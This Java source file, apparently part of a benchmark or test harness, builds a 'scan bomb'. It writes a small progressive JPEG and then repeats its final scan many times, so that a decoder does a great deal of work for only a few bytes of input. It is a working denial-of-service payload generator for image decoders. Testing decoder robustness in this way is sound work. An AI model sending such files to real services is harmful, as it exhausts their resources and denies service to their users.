package dev.ballast.bench.attack;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;

/**
 * A progressive JPEG that repeats its last scan. Each repetition costs a few bytes, and a decoder passes over all coefficients for it
 * (ITU-T T.81, G.1).
 */
final class ScanBomb {
    private static final int PREFIX = 0xFF;
    private static final int START_OF_SCAN = 0xDA;
    private static final int END_OF_IMAGE_BYTES = 2;

    private ScanBomb() {}

    /** A grey square of {@code edge} pixels a side, in at least {@code scans} scans. */
    static byte[] of(int edge, int scans) {
        byte[] sound = progressive(edge);
        int last = lastScan(sound);
        int end = sound.length - END_OF_IMAGE_BYTES;
        ByteArrayOutputStream out = new ByteArrayOutputStream(end + scans * (end - last));
        out.write(sound, 0, last);
        for (int scan = 0; scan < scans; scan++) {
            out.write(sound, last, end - last);
        }
        out.write(sound, end, END_OF_IMAGE_BYTES);
        return out.toByteArray();
    }

    private static byte[] progressive(int edge) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        ImageWriter writer = ImageIO.getImageWritersByFormatName("jpeg").next();
        try (ImageOutputStream out = ImageIO.createImageOutputStream(bytes)) {
            ImageWriteParam how = writer.getDefaultWriteParam();
            how.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
            writer.setOutput(out);
            writer.write(
                    null, new IIOImage(new BufferedImage(edge, edge, BufferedImage.TYPE_BYTE_GRAY), null, null), how);
        } catch (IOException e) {
            throw new UncheckedIOException("a picture cannot be written to memory", e);
        } finally {
            writer.dispose();
        }
        return bytes.toByteArray();
    }

    /** Where the last scan begins. Within a scan a prefix is followed by 0, so that this is no data. */
    private static int lastScan(byte[] jpeg) {
        for (int at = jpeg.length - 2; at >= 0; at--) {
            if ((jpeg[at] & 255) == PREFIX && (jpeg[at + 1] & 255) == START_OF_SCAN) {
                return at;
            }
        }
        throw new IllegalStateException("ImageIO wrote a JPEG without a scan");
    }
}
